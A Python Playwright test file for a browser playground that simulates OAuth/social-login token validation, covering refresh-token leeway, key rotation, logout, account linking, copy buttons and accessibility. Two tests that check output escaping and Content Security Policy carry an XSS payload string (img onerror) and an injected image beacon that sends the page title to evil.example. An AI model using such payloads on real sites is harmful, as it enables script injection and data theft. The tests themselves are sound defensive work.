"""The playground in a real browser: what somebody tries there, by mouse, by keyboard, and read aloud."""

from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, expect
from tests.browser.booth import Visitor, open_booth
from tests.browser.window import LOOKS

from accredit.testing import installed_simulators

expect.set_options(timeout=20_000)
HOSTILE = "<img src=x onerror=\"document.title='owned'\">\u202e\"'&lt;</code></pre>"
APP = {"client_id": "sample-app", "connection": "facebook", "scope": "openid profile offline_access"}

PAGES = {
    "start": ("",),
    "accepted": ("google-oauth2", "Ada logs in to your app"),
    "foreign": ("", "The quiz app sends Ada's token to your server"),
    "session": ("", "Grace Hopper", "Ask /userinfo who it is"),
}
"""With the connection to choose, and the buttons that lead there."""


@pytest.fixture(scope="module")
def url(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    with open_booth(tmp_path_factory.mktemp("booth")) as one:
        yield one


@pytest.fixture
def visitor(browser: Browser, url: str) -> Iterator[Visitor]:
    with Visitor(browser, url) as one:
        yield one


def test_ada_is_let_in_and_the_quiz_app_is_not(visitor: Visitor) -> None:
    visitor.start()
    visitor.press("Ada logs in to your app")
    visitor.sees("accepted")
    visitor.start()
    visitor.press("The quiz app sends Ada's token to your server")
    visitor.sees("wrong_audience")
    visitor.sees("would be logged in here now as Ada Lovelace")


@pytest.mark.parametrize("connection", sorted(installed_simulators()))
def test_of_each_connection_a_sample_is_accepted_and_one_is_refused(visitor: Visitor, connection: str) -> None:
    visitor.start()
    visitor.page.get_by_role("link", name=connection, exact=True).click()
    visitor.page.locator("#tokens .people").first.get_by_role("button").first.click()
    visitor.sees("accepted")
    visitor.start(connection)
    refused = visitor.page.locator("#tokens details:has(summary code)").first
    reason = refused.locator("summary code").inner_text()
    refused.locator("summary").click()
    refused.get_by_role("button").first.click()
    visitor.sees(reason)


def test_a_pasted_token_is_tried_and_shown_nowhere(visitor: Visitor) -> None:
    page = visitor.page
    token = "EAAsim-expired-ada"
    visitor.start("facebook")
    page.get_by_label("Token", exact=True).fill(token)
    visitor.press("Try it")
    visitor.sees("invalid_token")
    assert token not in page.content()
    expect(page.get_by_text("YOUR_ACCESS_TOKEN").first).to_be_visible()
    page.go_back()
    expect(page.get_by_label("Token", exact=True)).to_have_value("")


def test_while_a_fault_is_on_the_provider_is_in_trouble_and_then_not_any_more(visitor: Visitor) -> None:
    page = visitor.page
    visitor.start("weibo")
    page.get_by_label("From now on, each answer of this provider is").select_option("error")
    visitor.press("Switch it on")
    expect(page.get_by_role("status").get_by_text("A fault is on at")).to_be_visible()
    expect(page.get_by_text("does not ask again about a token that it has seen")).to_be_visible()
    visitor.press("Grace Hopper")
    visitor.sees("provider_unavailable")
    visitor.press("End the fault")
    visitor.sees("provider_unavailable")
    visitor.start("weibo")
    expect(page.get_by_text("answers as it should")).to_be_visible()
    expect(page.get_by_text("A fault is on")).to_have_count(0)
    visitor.press("Grace Hopper")
    visitor.sees("accepted")


def test_after_its_keys_have_changed_the_provider_is_asked_for_them_once(visitor: Visitor) -> None:
    keys = visitor.page.locator("#calls").get_by_text("/oauth2/v3/certs")
    for is_rotated in (True, False):
        visitor.start("google-oauth2")
        if is_rotated:
            visitor.press("Change its keys")
        visitor.press("Log Ada in with the new key" if is_rotated else "Ada logs in to your app")
        visitor.sees("accepted")
        expect(keys).to_have_count(1 if is_rotated else 0)


def test_a_refresh_token_works_again_within_its_leeway_and_after_it_ends_the_session(visitor: Visitor) -> None:
    page = visitor.page
    visitor.start()
    visitor.press("Grace Hopper")
    visitor.holds("newest")
    visitor.show(0)
    visitor.holds("replaced, in its leeway", "newest")
    visitor.show(0)
    visitor.holds("replaced, in its leeway", "works, too", "newest")
    visitor.press("Let 31 seconds pass")
    visitor.holds("used", "works, too", "newest")
    expect(visitor.session).to_contain_text("goes on")
    visitor.show(0)
    expect(page.locator("#answer")).to_contain_text("Unknown or invalid refresh token.")
    expect(visitor.session).to_contain_text("over")
    visitor.holds("ended", "ended", "ended")
    expect(visitor.session.get_by_role("button")).to_have_count(0)


def test_after_logging_out_the_session_is_over(visitor: Visitor) -> None:
    page = visitor.page
    visitor.start()
    visitor.press("Alan Turing")
    visitor.press("Ask /userinfo who it is")
    visitor.sees("The user is Alan Turing")
    expect(page.locator("#answer")).to_contain_text("Alan Turing")
    visitor.press("Log out: ends the session")
    expect(page.locator("#answer")).to_contain_text("200")
    expect(visitor.session).to_contain_text("over")
    expect(visitor.session).to_contain_text("there is nothing to log out of")
    expect(visitor.session.get_by_role("button")).to_have_count(0)


def test_an_account_at_another_provider_is_linked_and_unlinked(visitor: Visitor) -> None:
    visitor.start()
    visitor.press("Sappho")
    visitor.sees("accepted")
    visitor.page.get_by_label("Link Sappho's account at").select_option("weibo")
    visitor.press("Link it to this user")
    visitor.sees("accepted")
    expect(visitor.page.get_by_text("Linked: Sappho's account at weibo")).to_be_visible()
    visitor.press("Unlink weibo")
    expect(visitor.session).to_contain_text("Sappho's account at weibo (1000000000000003) does not belong to Sappho")
    expect(visitor.session).to_contain_text("subject.unlinked")
    expect(visitor.session.get_by_role("button", name="Unlink weibo")).to_have_count(0)


def test_what_an_app_sends_appears_by_itself_and_without_scripts_by_a_link(browser: Browser, url: str) -> None:
    with Visitor(browser, url) as live, Visitor(browser, url, java_script_enabled=False) as plain:
        for visitor in (live, plain):
            visitor.start()
        live.post(**APP, access_token="EAAsim-good-sappho", device="newest")
        number = live.post(**APP, access_token="EAAsim-revoked-sappho").status_code
        assert number == 401
        rows = live.page.locator("#latest tbody tr")
        expect(rows.nth(1)).to_contain_text("somebody else")
        expect(rows.first).to_contain_text("invalid_token")
        expect(plain.page.get_by_role("button", name="Pause")).to_have_count(0)
        plain.page.get_by_role("link", name="Update the list").click()
        expect(plain.page.locator("#latest tbody tr").first).to_contain_text("invalid_token")
        plain.press("Ada logs in to your app")
        plain.sees("accepted")
        expect(plain.page.get_by_role("button", name="Copy as curl")).to_have_count(0)
        plain.page.get_by_text("Kotlin", exact=True).click()
        expect(plain.page.get_by_label("The request in Kotlin")).to_contain_text("HttpURLConnection")


def test_a_program_is_copied_as_it_stands_there_and_the_screen_reader_says_so(browser: Browser, url: str) -> None:
    with Visitor(browser, url, permissions=["clipboard-read", "clipboard-write"]) as visitor:
        page = visitor.page
        visitor.start()
        visitor.press("Ada logs in to your app")
        for language in ("curl", "Swift"):
            if language != "curl":
                page.get_by_text(language, exact=True).click()
            visitor.press(f"Copy as {language}")
            expect(page.locator("#snippets details[open] [role=status]")).to_have_text("Copied")
            program = page.get_by_label(f"The request in {language}").inner_text()
            assert page.evaluate("navigator.clipboard.readText()").strip() == program.strip()
        assert "URLSession" in program
        assert page.evaluate("navigator.clipboard.readText()").count("\n\n") == 1


def test_where_a_page_may_not_copy_the_text_is_selected(browser: Browser, url: str) -> None:
    with Visitor(browser, url) as visitor:
        page = visitor.page
        visitor.start()
        visitor.press("Ada logs in to your app")
        page.evaluate("() => { navigator.clipboard.writeText = () => Promise.reject(new Error('no')) }")
        visitor.press("Copy as curl")
        expect(page.locator("#snippets details[open] [role=status]")).to_contain_text("copy it yourself")
        assert page.evaluate("String(document.getSelection())").startswith("curl --request POST")


def test_everything_can_be_done_by_the_keyboard_alone(visitor: Visitor) -> None:
    page = visitor.page
    visitor.start()
    page.keyboard.press("Tab")
    expect(page.get_by_role("link", name="Skip to the content")).to_be_focused()
    page.keyboard.press("Enter")
    page.keyboard.press("Tab")
    expect(page.get_by_role("button", name="Ada logs in to your app")).to_be_focused()
    assert page.evaluate("getComputedStyle(document.activeElement).outlineStyle") != "none"
    page.keyboard.press("Enter")
    visitor.sees("accepted")
    expect(page.get_by_role("button", name="Copy as curl")).to_be_visible()  # by now the script has run
    page.locator("#snippets summary").nth(1).focus()
    page.keyboard.press("Enter")
    expect(page.get_by_label("The request in Swift")).to_be_visible()
    page.keyboard.press("Tab")
    expect(page.get_by_role("button", name="Copy as Swift")).to_be_focused()


@pytest.mark.parametrize("look", LOOKS)
def test_every_page_is_accessible_and_fits_the_screen(browser: Browser, url: str, look: str) -> None:
    with Visitor(browser, url, **LOOKS[look]) as visitor:
        for name, (connection, *buttons) in PAGES.items():
            visitor.start(connection)
            for button in buttons:
                visitor.press(button)
            visitor.page.evaluate("document.querySelectorAll('details').forEach((one) => { one.open = true })")
            assert visitor.violations() == [], name
            assert not visitor.is_wider_than_the_screen(), name
            visitor.picture(f"playground-{name}-{look}")


def test_what_others_send_is_text(visitor: Visitor) -> None:
    shown = HOSTILE.replace("\u202e", "\\u202e")
    visitor.post(**APP, access_token="EAAsim-good-ada", device=HOSTILE)
    visitor.post(**APP | {"client_id": HOSTILE, "connection": HOSTILE}, access_token="EAAsim-good-ada")
    visitor.start()
    for row in range(2):
        visitor.page.locator("#latest tbody tr").nth(row).get_by_role("link").click()
        expect(visitor.page.get_by_text(shown).first).to_be_attached()
        assert visitor.page.locator("main img").count() == 0
        assert "owned" not in visitor.page.title()
        visitor.page.go_back()


def test_what_a_page_may_do_is_little_even_if_somebody_wrote_into_it(visitor: Visitor) -> None:
    visitor.start()
    visitor.page.evaluate(
        """() => {
            const script = document.createElement("script");
            script.textContent = "document.title = 'owned'";
            document.body.append(script);
            const image = document.createElement("img");
            image.src = "https://evil.example/?" + document.title;
            document.body.append(image);
        }"""
    )
    expect(visitor.page).to_have_title("Start – Accredit playground")
    visitor.page.wait_for_function("performance.now() > 0")
    assert len([line for line in visitor.said if "Content Security Policy" in line]) == 2
    visitor.said.clear()
